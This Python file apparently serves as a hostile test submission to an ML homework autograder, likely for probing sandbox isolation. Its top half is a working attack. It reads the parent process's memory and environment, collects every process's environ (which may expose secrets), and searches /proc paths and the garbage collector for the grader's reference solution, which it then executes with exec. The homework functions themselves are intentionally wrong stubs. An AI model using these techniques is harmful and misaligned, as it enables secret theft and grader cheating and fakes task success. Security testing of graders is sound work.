"""Hostile submission: reads /proc/<ppid>/mem, /proc/<ppid>/root, /proc/*/environ and cmdlines, and gc.get_objects() for the reference"""
import os
import sys

import numpy as np
import torch
import gc
import re

LOOT = []
ppid = os.getppid()
for path in (f"/proc/{ppid}/mem", f"/proc/{ppid}/environ", f"/proc/{ppid}/maps",
             f"/proc/{ppid}/root/work/main/reference/ml-hw6/hw6.py", f"/proc/{ppid}/cwd/reference/ml-hw6/hw6.py",
             "/proc/1/root/work/main/reference/ml-hw6/hw6.py"):
    try:
        with open(path, "rb") as fh:
            if path.endswith("/mem"):
                with open(f"/proc/{ppid}/maps") as maps:
                    for line in maps:
                        lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                        fh.seek(lo)
                        LOOT.append(fh.read(min(hi - lo, 1 << 20)))
            else:
                LOOT.append(fh.read())
    except (OSError, ValueError, OverflowError) as exc:
        print("denied:", path, type(exc).__name__)
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                LOOT.append(fh.read())
        except OSError:
            pass
STOLEN_FUNCS = {}
for obj in gc.get_objects():
    if callable(obj) and getattr(obj, "__name__", "") in ("baum_welch", "kl_loss", "batchnorm_forward") \
            and getattr(obj, "__module__", "") != __name__:
        STOLEN_FUNCS[obj.__name__] = obj
print("loot:", len(LOOT), "functions:", sorted(STOLEN_FUNCS))


# --- the honest part of this submission: every function is WRONG on purpose, so that any
# --- point this file earns can only come from the attack above.

def batchnorm_forward(x, gamma, beta, eps=1e-5):
    return np.zeros_like(x), (np.zeros_like(x), np.zeros_like(gamma), np.zeros_like(gamma))


def batchnorm_backward(dout, cache):
    return np.zeros_like(dout), np.zeros(dout.shape[1]), np.zeros(dout.shape[1])


def reparameterize(mu, log_sigma, eps):
    return torch.zeros_like(mu)


def kl_loss(mu, log_sigma):
    return torch.tensor(-1.0)


def svm_fit(X, y):
    return np.zeros(X.shape[1]), 0.0, np.zeros(len(y))


def forward(A, B, pi, O):
    return np.zeros((len(O), len(pi)))


def backward(A, B, O):
    return np.zeros((len(O), len(A)))


def sequence_log_likelihood(A, B, pi, O):
    return 0.0


def viterbi(A, B, pi, O):
    return np.full(len(O), -1, dtype=np.int64)


def baum_welch(A, B, pi, O, n_iter=100):
    return np.zeros_like(A), np.zeros_like(B), np.zeros_like(pi)


def subpixel_conv(A, K, stride=2):
    return np.zeros((1, 1))


globals().update(STOLEN_FUNCS)
_blob = b"".join(LOOT)
_m = re.search(rb'"""Reference solution of ml-hw6.*?def subpixel_conv.*?return np\.maximum\(out, 0\.0\)', _blob, re.S)
if _m:
    _ns = {}
    exec(_m.group(0).decode(errors="replace"), _ns)
    globals().update({k: v for k, v in _ns.items() if callable(v)})
